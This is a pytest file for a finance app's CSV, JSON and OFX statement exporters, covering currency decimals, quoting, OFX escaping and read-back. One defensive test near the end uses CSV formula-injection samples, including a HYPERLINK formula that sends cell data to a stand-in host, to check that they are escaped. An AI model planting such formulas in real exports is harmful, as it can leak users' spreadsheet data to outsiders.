"""The export writers: exact bytes of CSV, JSON and OFX, and the OFX read back by ofxtools."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
from decimal import Decimal

import pytest
from ofxtools.Parser import OFXTree

from financy.core.adapters.statements_export import (
    CSV_COLUMNS,
    ExportError,
    ExportLedger,
    ExportRow,
    decimal_text,
    write_csv,
    write_json,
    write_ofx,
)

ID1 = uuid.UUID("01900000-0000-7000-8000-000000000001")
ID2 = uuid.UUID("01900000-0000-7000-8000-000000000002")
ID3 = uuid.UUID("01900000-0000-7000-8000-000000000003")
ID4 = uuid.UUID("01900000-0000-7000-8000-000000000004")
LONG = "Supermercados Pão & Leite <Centro> Ltda."  # 40 characters

ROWS = (
    ExportRow(
        id=ID1,
        occurred_on=dt.date(2026, 11, 28),
        kind="expense",
        amount=Decimal("45.9000"),
        currency="BRL",
        merchant=LONG,
        description="feira da semana",
        category="groceries",
        subcategory="Feira",
        payment_method="pix",
        base_amount=Decimal("45.9000"),
        base_currency="BRL",
        source_channel="telegram",
        author="Ana",
        paid_by="Bruno",
    ),
    ExportRow(
        id=ID2,
        occurred_on=dt.date(2026, 11, 29),
        kind="income",
        amount=Decimal("5000.0000"),
        currency="BRL",
        merchant="ACME",
        category="salary",
        base_amount=Decimal("5000.0000"),
        base_currency="BRL",
        source_channel="import",
        external_id="FIT-20261129-1",
    ),
    ExportRow(
        id=ID3,
        occurred_on=dt.date(2026, 11, 30),
        kind="expense",
        amount=Decimal("1500.0000"),
        currency="JPY",
        merchant="Ramen",
        category="restaurants",
        base_amount=Decimal("53.2500"),
        base_currency="BRL",
        source_channel="whatsapp",
    ),
    ExportRow(
        id=ID4,
        occurred_on=dt.date(2026, 11, 30),
        kind="expense",
        amount=Decimal("1.2500"),
        currency="BHD",
        merchant="Karak",
        base_amount=Decimal("18.0000"),
        base_currency="BRL",
        source_channel="api",
    ),
)
LEDGER = ExportLedger(id=uuid.UUID("01900000-0000-7000-8000-0000000000aa"), name="Casa", base_currency="BRL")


def test_amounts_keep_the_currencys_own_decimals_and_real_precision() -> None:
    assert decimal_text(Decimal("45.9000"), "BRL") == "45.90"
    assert decimal_text(Decimal("-1500.0000"), "JPY") == "-1500"
    assert decimal_text(Decimal("1.2500"), "BHD") == "1.250"
    assert decimal_text(Decimal("5.7890"), "BRL") == "5.789"
    assert decimal_text(Decimal("1E+3"), "USD") == "1000.00"


def test_csv_is_utf8_without_bom_with_signed_amounts_and_iso_dates() -> None:
    data = write_csv(ROWS, locale="pt-BR")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8").split("\r\n") == [
        ",".join(CSV_COLUMNS),
        f"2026-11-28,-45.90,BRL,Supermercados Pão & Leite <Centro> Ltda.,feira da semana,groceries,-45.90,BRL,"
        f"expense,pix,telegram,{ID1},,Mercado,Feira,Ana,Bruno",
        f"2026-11-29,5000.00,BRL,ACME,,salary,5000.00,BRL,income,,import,{ID2},FIT-20261129-1,Salário,,,",
        f"2026-11-30,-1500,JPY,Ramen,,restaurants,-53.25,BRL,expense,,whatsapp,{ID3},,Alimentação,,,",
        f"2026-11-30,-1.250,BHD,Karak,,,-18.00,BRL,expense,,api,{ID4},,,,,",
        "",
    ]


def test_csv_quotes_text_and_reads_back_with_a_plain_reader() -> None:
    row = ExportRow(
        id=ID1,
        occurred_on=dt.date(2026, 1, 2),
        kind="transfer",
        amount=Decimal("10"),
        currency="EUR",
        merchant='Loja "Boa", Lda',
        description="linha 1\nlinha 2",
    )
    data = write_csv([row], locale="en")
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(read) == 1
    assert read[0]["payee"] == 'Loja "Boa", Lda'
    assert read[0]["description"] == "linha 1\nlinha 2"
    assert (read[0]["date"], read[0]["amount"], read[0]["kind"]) == ("2026-01-02", "-10.00", "transfer")
    assert read[0]["base_amount"] == read[0]["base_currency"] == ""


def test_json_has_the_ledger_and_decimal_strings() -> None:
    data = write_json(
        ROWS[2:3],
        context=LEDGER,
        start=dt.date(2026, 11, 1),
        end=None,
        exported_at=dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.UTC),
    )
    assert json.loads(data) == {
        "schema_version": 1,
        "ledger": {"id": str(LEDGER.id), "name": "Casa", "base_currency": "BRL"},
        "exported_at": "2026-12-01T09:30:00Z",
        "from": "2026-11-01",
        "to": None,
        "transactions": [
            {
                "id": str(ID3),
                "occurred_on": "2026-11-30",
                "kind": "expense",
                "amount": "1500",
                "currency": "JPY",
                "merchant": "Ramen",
                "description": None,
                "category": "restaurants",
                "subcategory": None,
                "payment_method": None,
                "base_amount": "53.25",
                "base_currency": "BRL",
                "source_channel": "whatsapp",
                "author": None,
                "paid_by": None,
                "external_id": None,
            }
        ],
    }
    with pytest.raises(ValueError, match="time zone"):
        write_json([], context=LEDGER, exported_at=dt.datetime(2026, 12, 1))  # noqa: DTZ001 (the point)


def _ofx(rows: tuple[ExportRow, ...] = ROWS) -> bytes:
    return write_ofx(
        rows,
        currency="BRL",
        account_id="0190000000007000800000",
        start=dt.date(2026, 11, 1),
        end=dt.date(2026, 11, 30),
        generated_at=dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.UTC),
    )


def test_ofx_transactions_are_signed_escaped_and_cut_to_the_specs_lengths() -> None:
    text = _ofx().decode("utf-8")
    assert text.startswith(
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\r\n'
        '<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>\r\n'
        "<OFX>\n"
    )
    first = text[text.index("<STMTTRN>") : text.index("</STMTTRN>")]
    assert first.split("\n") == [
        "<STMTTRN>",
        "            <TRNTYPE>DEBIT</TRNTYPE>",
        "            <DTPOSTED>20261128</DTPOSTED>",
        "            <TRNAMT>-45.90</TRNAMT>",
        f"            <FITID>{ID1}</FITID>",
        "            <NAME>Supermercados Pão &amp; Leite &lt;Centr</NAME>",
        "            <MEMO>Supermercados Pão &amp; Leite &lt;Centro&gt; Ltda.; feira da semana</MEMO>",
        "          ",
    ]
    assert "<TRNTYPE>CREDIT</TRNTYPE>" in text
    assert "<TRNAMT>5000.00</TRNAMT>\n            <FITID>FIT-20261129-1</FITID>" in text
    assert "<TRNAMT>-1500</TRNAMT>" in text
    assert "<CURRENCY>\n              <CURRATE>0.0355</CURRATE>\n              <CURSYM>JPY</CURSYM>" in text
    assert "<TRNAMT>-1.250</TRNAMT>" in text
    assert "<CURRATE>14.4</CURRATE>" in text
    # The net of the four rows in BRL: -45.90 + 5000 - 53.25 - 18.00.
    assert "<LEDGERBAL>\n          <BALAMT>4882.85</BALAMT>\n          <DTASOF>20261130</DTASOF>" in text


def test_ofx_reads_back_with_ofxtools() -> None:
    tree = OFXTree()
    tree.parse(io.BytesIO(_ofx()))
    ofx = tree.convert()
    (statement,) = ofx.statements
    assert statement.curdef == "BRL"
    assert statement.account.acctid == "0190000000007000800000"
    assert statement.banktranlist.dtstart == dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
    assert statement.banktranlist.dtend == dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
    assert statement.balance.balamt == Decimal("4882.85")
    read = [
        (
            t.trntype,
            t.dtposted.date(),
            t.trnamt,
            t.fitid,
            t.name,
            t.memo,
            None if t.currency is None else (t.currency.cursym, t.currency.currate),
        )
        for t in statement.banktranlist
    ]
    assert read == [
        (
            "DEBIT",
            dt.date(2026, 11, 28),
            Decimal("-45.90"),
            str(ID1),
            "Supermercados Pão & Leite <Centr",
            "Supermercados Pão & Leite <Centro> Ltda.; feira da semana",
            None,
        ),
        ("CREDIT", dt.date(2026, 11, 29), Decimal("5000.00"), "FIT-20261129-1", "ACME", None, None),
        (
            "DEBIT",
            dt.date(2026, 11, 30),
            Decimal("-1500"),
            str(ID3),
            "Ramen",
            None,
            ("JPY", Decimal("0.0355")),
        ),
        (
            "DEBIT",
            dt.date(2026, 11, 30),
            Decimal("-1.250"),
            str(ID4),
            "Karak",
            None,
            ("BHD", Decimal("14.4")),
        ),
    ]
    assert len(LONG) == 40
    assert all(len(t.name) <= 32 for t in statement.banktranlist)


def test_ofx_text_with_control_characters_and_a_short_merchant() -> None:
    row = ExportRow(
        id=ID1,
        occurred_on=dt.date(2026, 11, 28),
        kind="expense",
        amount=Decimal("3"),
        currency="BRL",
        merchant="Bar\x00 & Co",
        description="a\nb",
    )
    text = _ofx((row,)).decode("utf-8")
    assert "<NAME>Bar  &amp; Co</NAME>" in text
    assert "<MEMO>a b</MEMO>" in text
    tree = OFXTree()
    tree.parse(io.BytesIO(text.encode("utf-8")))
    (trn,) = tree.convert().statements[0].banktranlist
    assert (trn.name, trn.memo, trn.trnamt) == ("Bar  & Co", "a b", Decimal("-3.00"))


def test_ofx_refuses_what_it_cannot_state() -> None:
    no_rate = ExportRow(
        id=ID3, occurred_on=dt.date(2026, 11, 30), kind="expense", amount=Decimal("1500"), currency="JPY"
    )
    with pytest.raises(ExportError, match="no FX rate to BRL"):
        _ofx((no_rate,))
    with pytest.raises(ExportError, match="1 to 22 characters"):
        write_ofx([], currency="BRL", account_id="x" * 23, start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 2))
    with pytest.raises(ExportError, match="after it ends"):
        write_ofx([], currency="BRL", account_id="a", start=dt.date(2026, 1, 2), end=dt.date(2026, 1, 1))


def test_a_row_is_positive_with_a_known_kind() -> None:
    with pytest.raises(ValueError, match="positive"):
        ExportRow(
            id=ID1, occurred_on=dt.date(2026, 1, 1), kind="expense", amount=Decimal("-1"), currency="BRL"
        )
    with pytest.raises(ValueError, match="kind"):
        ExportRow(id=ID1, occurred_on=dt.date(2026, 1, 1), kind="refund", amount=Decimal("1"), currency="BRL")


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe_and_read_back_exactly() -> None:
    from financy.core.adapters.statements import parse_statement

    texts = [
        '=HYPERLINK("http://x.example/?a="&A1)',
        "+55 11 5555-0000",
        "@SUM(A1:A9)",
        "-desconto",
        "'=já escapado",
    ]
    rows = [
        ExportRow(
            id=uuid.UUID(int=index + 1),
            occurred_on=dt.date(2026, 3, index + 1),
            kind="expense",
            amount=Decimal("12.30"),
            currency="BRL",
            merchant=text,
            description=f"nota {text}",
        )
        for index, text in enumerate(texts)
    ]
    data = write_csv(rows, locale="pt-BR")
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["payee"] for r in read] == [
        '\'=HYPERLINK("http://x.example/?a="&A1)',
        "'+55 11 5555-0000",
        "'@SUM(A1:A9)",
        "'-desconto",
        "''=já escapado",
    ]
    assert [r["amount"] for r in read] == ["-12.30"] * 5
    parsed = parse_statement(data)
    assert [line.payee for line in parsed.lines] == texts
    assert [line.amount for line in parsed.lines] == [Decimal("-12.30")] * 5


def test_plain_text_and_inner_signs_are_written_as_they_are() -> None:
    row = ExportRow(
        id=ID1,
        occurred_on=dt.date(2026, 1, 2),
        kind="expense",
        amount=Decimal("3"),
        currency="BRL",
        merchant="Pão de Açúcar",
        description="2+2=4 'aspas'",
    )
    read = next(csv.DictReader(io.StringIO(write_csv([row], locale="en").decode("utf-8"), newline="")))
    assert (read["payee"], read["description"]) == ("Pão de Açúcar", "2+2=4 'aspas'")
